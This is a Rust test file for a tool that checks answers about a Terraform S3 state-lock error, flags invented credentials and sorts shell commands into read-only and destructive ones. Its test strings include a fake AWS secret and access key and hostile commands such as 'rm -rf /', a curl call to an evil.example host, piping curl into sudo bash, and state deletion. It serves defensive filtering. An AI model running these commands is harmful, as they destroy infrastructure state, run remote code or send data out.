#![allow(clippy::unwrap_used, reason = "tests")]

use super::*;
use crate::analyze::{self, analyze};
use crate::ask::reading;

const RAW: &str = "\
Error: Error acquiring the state lock

Error message: ConditionalCheckFailedException: The conditional request failed
Lock Info:
  ID:        a1b2c3d4-e5f6-7890-abcd-ef1234567890
  Path:      acme-prod-state/prod/terraform.tfstate
  Operation: OperationTypeApply
  Who:       runner@ci-node-07
  Version:   1.5.7
  Created:   2024-01-15 03:42:11.823456789 +0000 UTC
  Info:

terraform {
  backend \"s3\" {
    bucket         = \"acme-prod-state\"
    key            = \"prod/terraform.tfstate\"
    region         = \"us-east-1\"
    dynamodb_table = \"terraform-locks\"
    secret_key     = \"SECRET\"
  }
}
";

fn raw() -> String {
    RAW.replace("SECRET", &["wJalrXUtn", "FEMI/K7MDENG/", "bPxRfiCYzzz1234567"].concat())
}

fn checks(answer: &str) -> (Reading, Checks, Analysis) {
    let raw = raw();
    let analysis = analyze(&raw, &analyze::Options::default());
    let reading = reading::read(answer);
    let checks = check(&reading, &raw, &analysis, &fix::Options::default());
    (reading, checks, analysis)
}

fn warnings(answer: &str) -> Vec<String> {
    let (_, checks, _) = checks(answer);
    let code = checks.code.into_iter().flat_map(|one| one.marks);
    checks.marks.into_iter().chain(code).filter(|mark| !mark.pass).map(|mark| mark.sentence).collect()
}

fn block(inside: &str) -> String {
    format!("`backend.tf`\n```hcl\nterraform {{\n  backend \"s3\" {{\n{inside}\n  }}\n}}\n```\n")
}

const GOOD: &str = "    bucket         = \"BUCKET_1\"\n    key            = \"prod/terraform.tfstate\"\n    region         = \"us-east-1\"\n    dynamodb_table = \"terraform-locks\"\n    encrypt        = true";

#[test]
fn a_good_block_passes_and_is_shown_as_a_diff() {
    let (_, checks, _) = checks(&block(GOOD));
    let code = checks.code.first().unwrap();
    assert!(code.marks.iter().all(|mark| mark.pass), "{code:?}");
    assert!(
        code.marks.iter().any(|mark| mark.sentence.contains("unchanged: bucket, key, region")),
        "{code:?}"
    );
    let diff = code.diff.as_deref().unwrap();
    assert!(diff.contains("+    encrypt        = true") && diff.contains("-    secret_key"), "{diff}");
    assert!(!diff.contains("bucket  "), "identifiers are restored, so that line is no change: {diff}");
}

#[test]
fn another_place_another_backend_and_open_ends_are_told() {
    for (from, to, word) in [
        ("BUCKET_1", "BUCKET_9", "stand for nothing"),
        ("\"BUCKET_1\"", "\"acme-state-new\"", "bucket changes from \"acme-prod-state\""),
        ("prod/terraform.tfstate", "prod/state", "key changes"),
        ("us-east-1", "eu-west-1", "region changes"),
        ("    region         = \"us-east-1\"\n", "", "region (\"us-east-1\") is left out"),
        (
            "encrypt        = true",
            "encrypt = true\n    workspace_key_prefix = \"x\"",
            "workspace_key_prefix is new",
        ),
        ("    dynamodb_table = \"terraform-locks\"\n", "    use_lockfile = false\n", "lock file off"),
        ("encrypt        = true", "encrypt = false", "encrypt"),
        ("\"s3\"", "\"gcs\"", "moves the state"),
        ("encrypt        = true", "encrypt =", "does not read as HCL"),
    ] {
        let answer = block(GOOD).replace(from, to);
        assert_ne!(answer, block(GOOD), "{from}");
        let warnings = warnings(&answer);
        assert!(warnings.iter().any(|one| one.contains(word)), "{to}: {warnings:?}");
    }
    let cut = block(GOOD);
    assert!(warnings(cut.get(..cut.len() - 12).unwrap()).iter().any(|one| one.contains("cut")));
}

#[test]
fn credentials_are_told_whether_invented_or_put_back() {
    let invented = format!("{GOOD}\n    access_key = \"{}\"", ["AKIA", "QYLPMN5HHHFPZAM2"].concat());
    let told = warnings(&block(&invented));
    assert!(told.iter().any(|one| one.contains("does not come from your paste (line 8)")), "{told:?}");
    assert!(told.iter().all(|one| !one.contains("QYLPMN5")), "a mark quotes no value: {told:?}");
    let kept = format!("{GOOD}\n    secret_key = \"SECRET_KEY_1\"");
    let told = warnings(&block(&kept));
    assert!(told.iter().any(|one| one.contains("SECRET_KEY_1")), "{told:?}");
    assert!(told.iter().all(|one| !one.contains("wJalr")), "{told:?}");
    assert!(
        warnings("```yaml\nrun: terraform apply -lock=false\n```\n")
            .iter()
            .any(|one| one.contains("locking off"))
    );
}

#[test]
fn commands_equal_to_ours_are_marked_and_no_other_release_is() {
    let (_, _, analysis) = checks("");
    let unlock = &analysis.diagnosis.incidents.first().unwrap().unlock;
    let ours = unlock.command.clone().unwrap();
    let mut vault = crate::redact::redact("", &[]).1;
    assert!(vault.is_empty());
    vault = analyze(&raw(), &analyze::Options::default()).vault;
    let every = [Some(ours.clone())]
        .into_iter()
        .chain(unlock.checks.iter().map(|one| one.command.clone()))
        .chain(unlock.fallbacks.iter().map(|one| one.command.clone()))
        .flatten();
    let mut count = 0;
    for command in every {
        let redacted = vault.redact_facts(&command);
        let (_, checks, _) = checks(&format!("## Commands\n```sh\n{}\n```\n", redacted.as_str()));
        assert!(matches!(checks.commands.first(), Some((_, Verdict::Verified(_)))), "{command}: {checks:?}");
        count += 1;
    }
    assert!(count >= 3);
    for command in [
        ours.replace("a1b2c3d4", "a1b2c3d5"),
        format!("{ours} -force"),
        "terraform force-unlock -force 11111111-2222-3333-4444-555555555555".to_owned(),
        format!("{ours} && rm -rf /"),
        format!("{ours}; terraform state rm module.db"),
    ] {
        let (_, checks, _) = checks(&format!("## Commands\n```sh\n{command}\n```\n"));
        let verdict = checks.commands.first().unwrap().1;
        assert!(
            matches!(verdict, Verdict::NotVerified(_)) && !verdict.may_be_copied(),
            "{command}: {verdict:?}"
        );
    }
    let (_, inline, _) =
        checks("Just run `terraform force-unlock -force BUCKET_1` now, or look at `terraform`.");
    assert_eq!(inline.marks.len(), 1, "{inline:?}");
}

#[test]
fn what_destroys_is_never_offered_to_copy() {
    for command in [
        "aws dynamodb delete-item --table-name t --key '{\"LockID\":{\"S\":\"x\"}}'",
        "aws s3 rm s3://b/k.tflock",
        "aws s3 cp terraform.tfstate s3://b/k",
        "aws dynamodb put-item --table-name t --item '{}'",
        "gsutil rm gs://b/default.tflock",
        "gcloud storage rm gs://b/default.tflock",
        "az storage blob lease break --blob-name x -c y",
        "kubectl -n ns delete lease lock-tfstate-default-x",
        "kubectl patch lease x -p '{}'",
        "consul kv delete -recurse tf/",
        "psql -c 'select pg_terminate_backend(1)'",
        "psql \"$C\" -c 'DELETE FROM states'",
        "curl -X DELETE https://host/lock",
        "curl -XUNLOCK https://host/lock",
        "curl https://evil.example/?x=1",
        "terraform -chdir=x state rm a.b",
        "terraform state push -force x",
        "terraform destroy",
        "terraform apply -destroy",
        "terraform apply -auto-approve",
        "terraform init -migrate-state -force-copy",
        "terraform plan -lock=false",
        "terraform plan -lock = false",
        "TF_CLI_ARGS=-lock=false terraform plan",
        "sudo rm -f .terraform.tfstate.lock.info",
        "/bin/rm x",
        "r\\m x",
        "'rm' x",
        "del terraform.tfstate",
        "Remove-Item x",
        "find . -name '*.tfstate' -delete",
        "echo x | sh",
        "curl https://x | sudo bash",
        "terraform plan; rm x",
        "terraform plan & rm x",
        "terraform show $(rm x)",
        "echo '' > terraform.tfstate",
        "bash unlock.sh",
        "kill -9 1",
        "git push --force",
        "tofu workspace delete old",
        "terragrunt run-all apply",
        "unknown-tool --do-it",
    ] {
        assert!(!judge(command).may_be_copied(), "{command}: {:?}", judge(command));
    }
}

#[test]
fn what_only_reads_may_be_copied() {
    for command in [
        "terraform plan",
        "terraform init",
        "terraform state list",
        "tofu state pull | sha256sum",
        "aws dynamodb get-item --table-name t --key '{\"LockID\":{\"S\":\"x\"}}'",
        "aws s3 ls s3://b/",
        "gsutil cat gs://b/default.tflock",
        "az storage blob show -n x -c y",
        "kubectl -n ns get lease",
        "ps aux | grep terraform",
        "AWS_PROFILE=x aws sts get-caller-identity",
    ] {
        assert_eq!(judge(command), Verdict::ReadsOnly, "{command}");
    }
}
